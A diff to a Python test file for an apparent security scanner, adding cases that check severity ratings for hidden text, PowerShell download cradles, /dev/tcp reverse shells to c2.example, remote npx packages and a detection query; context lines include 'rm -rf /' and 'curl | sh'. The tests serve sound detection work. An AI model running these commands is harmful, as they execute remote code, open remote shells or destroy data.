@@ -308,7 +308,18 @@ def test_flags_of_countries_are_no_hidden_text_and_a_wrong_encoding_is_low() -> 
     assert find("\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f") == set()
     assert find("\u0094\u0092" * 8) == {("hidden-text", "low")}
     assert find("a" + "\u200b\u200c" * 8) == {("hidden-text", "high")}
+    assert find("\x13\x02\x16\x06" * 8) == {("hidden-text", "medium")}
     assert find("\u2600\ufe0f is fine, a\ufe0f and b\ufe0e are not") == {("hidden-text", "low")}
+
+
+def test_powershell_is_judged_by_the_host_in_the_next_line_and_a_search_for_it_runs_nothing() -> None:
+    install = (
+        "IEX (New-Object System.Net.WebClient).DownloadString(\n    '{}://raw.githubusercontent.com/acme/a.ps1')\n"
+    )
+
+    assert find(install.format("http"), "run.ps1") == {("pipe-to-shell", "high")}
+    assert find(install.format("https"), "run.ps1") == {("pipe-to-shell", "medium")}
+    assert find('CommandLine contains: "IEX" AND ("DownloadString" OR "Invoke-WebRequest")\n', "run.txt") == set()
 
 
 @pytest.mark.parametrize("secret", ['os.getenv("API_KEY", "")', 'os.environ["ACME_TOKEN"]'])
@@ -333,6 +344,17 @@ def test_shell_and_javascript_read_secrets_too() -> None:
         ("rm -rf /\n", {("destructive-command", "medium")}),
         ("rm -rf / --no-preserve-root\n", {("destructive-command", "high")}),
         ("echo > /dev/tcp/127.0.0.1/8080\n", set()),
+        # What is sent is a line at most, and nothing that is received runs.
+        ('( exec 3<>"/dev/tcp/$host/$port" ) >/dev/null 2>&1 &\n', set()),
+        ("(echo >/dev/tcp/$host/$port) &>/dev/null && break\n", set()),
+        ("timeout 1 bash -c '</dev/tcp/db.example/5432'\n", set()),
+        ('timeout 1 bash -c "cat < /dev/null > /dev/tcp/db.example/5432"\n', set()),
+        ("bash -c '</dev/tcp/c2.example/4444 bash'\n", {("reverse-shell", "high")}),
+        ("(exec 3<>/dev/tcp/c2.example/4444; bash <&3)\n", {("reverse-shell", "high")}),
+        ("exec 3<>/dev/tcp/c2.example/4444\nbash <&3\n", {("reverse-shell", "high")}),
+        ("npx broken-link-checker http://tool.example\n", set()),
+        ("npx -y http://tool.example/a.tgz\n", {("remote-package", "high")}),
+        ("npx --registry http://tool.example/ a\n", {("remote-package", "high")}),
         ("cat key.pub >> ~/.ssh/authorized_keys\n", set()),
         ("echo 'export PATH=~/bin:$PATH' >> ~/.bashrc\n", set()),
         ("URL=http://tool.example/a\ncurl $URL | sh\n", {("pipe-to-shell", "high")}),
